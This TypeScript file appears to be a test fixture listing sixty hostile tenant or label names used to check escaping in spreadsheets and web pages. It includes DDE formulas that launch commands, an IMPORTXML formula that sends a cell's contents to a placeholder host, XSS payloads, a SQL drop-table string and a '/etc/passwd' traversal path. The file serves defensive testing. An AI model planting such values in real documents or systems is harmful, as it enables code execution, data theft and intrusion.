/** Sixty names that a tenant, a rack or a label may have, and that a spreadsheet or a page must take for text. */
export const hostileNames: readonly string[] = [
  ...["=1+1", "+1+1", "-1+1", "@SUM(A1)", "-2", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","x")'],
  ...["\t=1+1", "\r=1+1", "\n=1+1", "\u0000=1+1", "'=1+1", "''", "'", "＝1+1", "＋1", "－1", "＠x"],
  ...['=IMPORTXML(CONCAT("http://x.example/",A1),"//a")', '=DDE("cmd";"/C calc";"1")', "%0A=1+1"],
  ...[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
  ],
  ...["</t></si><si><t>x", "]]>", "<![CDATA[x]]>", "&lt;b&gt;", "&amp;", "<!--", '<?xml version="1.0"?>'],
  ...["a,b", "a;b", "a\tb", 'a"b', '""', '"', "a\r\nb", "a\nb", "a\rb", ",", "\r\n"],
  ...["constructor", "__proto__", "toString", "hasOwnProperty", "_x0041_", "_x005F_x0041_", "__x0041_"],
  ...["'; drop table tenant; --", "{{7*7}}", "../../etc/passwd", "\u202eabc", "a\u0001b", "\ud83d\ude00"],
  ...[" leading and trailing ", "北京智算中心", "x".repeat(200), "1e999"],
];
